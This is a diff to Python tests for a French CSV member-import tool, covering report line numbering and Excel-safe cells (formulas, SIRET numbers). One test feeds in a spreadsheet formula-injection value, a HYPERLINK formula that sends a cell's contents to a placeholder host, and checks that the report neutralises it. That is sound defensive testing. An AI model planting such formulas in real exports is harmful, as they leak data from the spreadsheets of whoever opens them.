@@ -41,7 +41,7 @@ def test_the_corrected_report_imported_again_stays_as_the_user_saved_it(db, tmp_
     assert report.read_text(encoding="utf-8-sig") == corrected  # the user's work is still there
     assert second.report_path == tmp_path / "adherents-rapport-2.csv"
     [left] = report_rows(second)  # Hélène's e-mail, still to fix, under one set of report columns
-    assert (left["Ligne"], left["Valeur"], left["Prénom"]) == ("3", "helene-sans-arobase", "Hélène")
+    assert (left["Ligne"], left["Valeur"], left["Prénom"]) == ("2", "helene-sans-arobase", "Hélène")
     header = second.report_path.read_text(encoding="utf-8-sig").splitlines()[0]
     assert header == "Ligne;Colonne;Valeur;Raison;Prénom;Nom;E-mail;Association;SIRET;Fonction"
 
@@ -74,6 +74,45 @@ def test_a_report_locked_by_a_spreadsheet_goes_beside_it(db, tmp_path, monkeypat
     monkeypatch.setattr(os, "replace", locked)
     result = run_file(db, source)
     assert result.report_path == tmp_path / "adherents-rapport-2.csv"
-    assert sorted(r["Ligne"] for r in report_rows(result)) == ["2", "3"]
+    assert [r["Ligne"] for r in report_rows(result)] == ["2", "3"]
     assert (tmp_path / "adherents-rapport.csv").read_text(encoding="utf-8") == "ouvert dans Excel"
     assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []  # no temporary left
+
+
+def test_report_lines_follow_the_file(db, tmp_path):
+    text = (
+        "Prénom;Nom;E-mail\r\n"
+        "Marie;Dupont;marie-sans-arobase\r\n"  # 2: imported, e-mail left out
+        ";;anne@exemple.fr\r\n"  # 3: refused
+        "Paul;Roux;paul-sans-arobase\r\n"  # 4: imported, e-mail left out
+        ";;luc@exemple.fr\r\n"  # 5: refused
+    )
+    result = run_file(db, write(tmp_path, text))
+    assert [r["Ligne"] for r in report_rows(result)] == ["2", "3", "4", "5"]
+    assert sorted(g.lines for g in result.outcome.summary.groups.values()) == [[2, 4], [3, 5]]
+
+
+def test_report_cells_survive_french_excel(db, tmp_path):
+    """Excel runs a cell starting with "=" (a formula typed by anyone in an online form) and
+    turns a 14-digit SIRET into 1,23457E+13 when it saves: the report keeps both as text, and
+    reads them back as they were."""
+    siret = "12345678200010"
+    text = (
+        "Prénom;Nom;E-mail;Association;SIRET\r\n"
+        f'Marie;=HYPERLINK("http://exemple.invalid/?"&C2);marie-sans-arobase;Les Amis;{siret}\r\n'
+        f";;anne@exemple.fr;Les Amis;{siret}1\r\n"
+    )
+    result = run_file(db, write(tmp_path, text, "liste.csv"))
+    rows = report_rows(result)
+    assert rows[0]["Nom"] == '\'=HYPERLINK("http://exemple.invalid/?"&C2)'
+    assert rows[0]["SIRET"] == "123 456 782 00010"
+    assert rows[1]["Valeur"].split("\n")[0] == "123456782000101"  # not a SIRET: as it was
+    report = result.report_path
+    report.write_text(
+        report.read_text(encoding="utf-8-sig").replace(";;;anne@exemple.fr;", ";Anne;Petit;anne@exemple.fr;"),
+        encoding="utf-8-sig",
+    )
+    run_file(db, report, policy="update")
+    found = details(db)
+    assert found["Les Amis"].fields.siret == siret
+    assert found['Marie =HYPERLINK("http://exemple.invalid/?"&C2)'].fields.last_name.startswith("=")
